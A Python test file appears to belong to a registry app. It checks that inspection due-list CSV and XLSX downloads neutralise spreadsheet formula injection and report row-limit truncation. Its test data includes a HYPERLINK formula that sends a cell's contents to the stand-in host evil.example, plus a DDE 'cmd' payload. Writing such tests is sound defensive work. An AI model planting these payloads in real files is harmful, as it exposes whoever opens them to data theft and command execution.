"""Downloads (the due list as CSV and XLSX) never hand a spreadsheet program a formula to run: names
and addresses are typed on phones, and an officer opens the file on an office PC."""

import csv
import io

from openpyxl import load_workbook

from tests.e2e.registry_helpers import address

DUE = "/api/v1/inspections/due"
# reads the neighbouring cell (a name, an address) and sends it to a stranger's server when clicked
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")'
NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]


def _units(worker, names):
    ids = {}
    for name in names:
        r = worker.post("/api/v1/units", json={"address_id": address(worker)["id"], "name": name, "kind": "hotel"})
        assert r.status_code == 201, r.get_json()
        assert r.get_json()["name"] == name  # stored as typed: only the download neutralises it
        ids[r.get_json()["id"]] = name
    return ids


def test_the_due_list_csv_starts_no_cell_with_a_formula(as_worker, as_police):
    units = _units(as_worker, NAMES)
    r = as_police.get(DUE, query_string={"format": "csv"})
    assert r.status_code == 200
    text = r.get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    by_unit = {row["unit_id"]: row for row in rows if row["unit_id"] in units}
    assert {uid: row["unit_name"] for uid, row in by_unit.items()} == {uid: "'" + n for uid, n in units.items()}
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    # every cell quoted, so a ';' list separator cannot split a cell and start a new one with '='
    assert all(line.startswith('"') for line in text.splitlines() if line)


def test_the_due_list_xlsx_keeps_the_name_as_text_not_a_formula(as_worker, as_police):
    units = _units(as_worker, NAMES)
    r = as_police.get(DUE, query_string={"format": "xlsx"})
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.get_data())).active
    header = [c.value for c in sheet[1]]
    name_col, unit_col = header.index("unit_name"), header.index("unit_id")
    cells = {row[unit_col].value: row[name_col] for row in sheet.iter_rows(min_row=2) if row[unit_col].value in units}
    assert {uid: c.value for uid, c in cells.items()} == units  # shown exactly as typed...
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())  # ...as text, never a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_a_download_cut_at_its_row_limit_says_so(as_worker, as_police, monkeypatch):
    from server.services import inspections

    _units(as_worker, ["甲", "乙", "丙"])
    whole = as_police.get(DUE, query_string={"format": "csv"})
    assert "X-Export-Truncated" not in whole.headers
    shown = len(list(csv.DictReader(io.StringIO(whole.get_data().decode("utf-8-sig")))))
    monkeypatch.setattr(inspections, "EXPORT_LIMIT", shown - 1)

    for fmt in ("csv", "xlsx"):
        cut = as_police.get(DUE, query_string={"format": fmt})
        assert cut.status_code == 200 and cut.headers["X-Export-Truncated"] == str(shown - 1)
    cut_csv = as_police.get(DUE, query_string={"format": "csv"}).get_data().decode("utf-8-sig")
    assert len(list(csv.DictReader(io.StringIO(cut_csv)))) == shown - 1


def test_an_audit_log_download_cut_at_its_row_limit_says_so(as_admin, monkeypatch):
    from server.api import audit

    monkeypatch.setattr(audit, "EXPORT_LIMIT", 1)
    for _ in range(2):
        as_admin.get("/api/v1/persons")  # each list read is on record
    cut = as_admin.get("/api/v1/audit-events", headers={"Accept": "text/csv"})
    assert cut.status_code == 200 and cut.headers["X-Export-Truncated"] == "1"
    assert len(list(csv.DictReader(io.StringIO(cut.get_data().decode("utf-8-sig"))))) == 1
